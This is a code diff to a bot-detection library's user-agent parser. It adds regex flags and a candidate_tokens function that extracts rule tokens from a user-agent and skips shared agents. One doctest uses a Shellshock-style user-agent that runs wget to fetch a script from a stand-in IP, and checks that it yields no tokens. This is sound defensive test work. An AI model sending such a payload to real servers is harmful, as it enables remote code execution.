@@ -22,7 +22,9 @@ from botguard.decide._safety import safe_ua_token
 from botguard.judge.verdict import BROWSER_RE
 from botguard.logs.escapes import unescape
 
-__all__ = ["SHARED_AGENT_TOKENS", "declares_bot", "product_names", "rule_tokens", "shared_agent"]
+__all__ = [
+    "SHARED_AGENT_TOKENS", "candidate_tokens", "declares_bot", "product_names", "rule_tokens", "shared_agent",
+]  # fmt: skip
 
 #: App runtimes and HTTP libraries (lower-case substrings): people's phone apps and legitimate
 #: integrations send these agents, so one offender's agent says nothing about the next client.
@@ -37,9 +39,9 @@ _BROWSER = re.compile(BROWSER_RE)
 _BOT_WORD = re.compile(r"(?:bot|crawler|spider|fetcher|scraper)(?![a-z])", re.IGNORECASE)
 _BOT_URL = re.compile(r"\+\s*https?://", re.IGNORECASE)
 _DOMAIN = r"((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,63})(?![a-z0-9.-]*@)"
-_CONTACT = re.compile(r"[a-z0-9._%+-]+@" + _DOMAIN, re.IGNORECASE)
-_URL_HOST = re.compile(r"https?://(?:[^/@\s]+@)?" + _DOMAIN, re.IGNORECASE)
-_NAME_VERSION = re.compile(r"(?<![\w.-])([a-z][\w.-]*?[a-z0-9_])\s?/\s?v?\d", re.IGNORECASE)
+_CONTACT = re.compile(r"[a-z0-9._%+-]+@" + _DOMAIN, re.IGNORECASE | re.ASCII)
+_URL_HOST = re.compile(r"https?://(?:[^/@\s]+@)?" + _DOMAIN, re.IGNORECASE | re.ASCII)
+_NAME_VERSION = re.compile(r"(?<![\w.-])([a-z][\w.-]*?[a-z0-9_])\s?/\s?v?\d", re.IGNORECASE | re.ASCII)
 
 
 def shared_agent(agent: str) -> bool:
@@ -105,3 +107,23 @@ def rule_tokens(agent: str) -> tuple[str, ...]:
     """
     names = [name for name in product_names(agent) if safe_ua_token(name)]
     return tuple(sorted(names, key=lambda name: not _BOT_WORD.search(name)))
+
+
+@lru_cache(maxsize=65536)
+def candidate_tokens(agent: str) -> frozenset[str]:
+    """:func:`rule_tokens` lower-cased: the only values a user-agent rule candidate for this agent may
+    take; none for a shared agent (a browser's, an app's, an HTTP library's: others send it too).
+
+    Examples:
+        >>> sorted(candidate_tokens("Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot)"))
+        ['novascrape', 'novascrape.example']
+        >>> candidate_tokens(r"() { :; }; /bin/bash -c \\x22wget http://198.51.100.7/x.sh\\x22")
+        frozenset()
+        >>> candidate_tokens("Expanse, a Palo Alto Networks company, searches the global IPv4 space v1.1.0")
+        frozenset()
+        >>> candidate_tokens("python-requests/2.31.0"), candidate_tokens("Go-http-client/1.1")
+        (frozenset(), frozenset())
+    """
+    if shared_agent(agent):
+        return frozenset()
+    return frozenset(token.lower() for token in rule_tokens(agent))
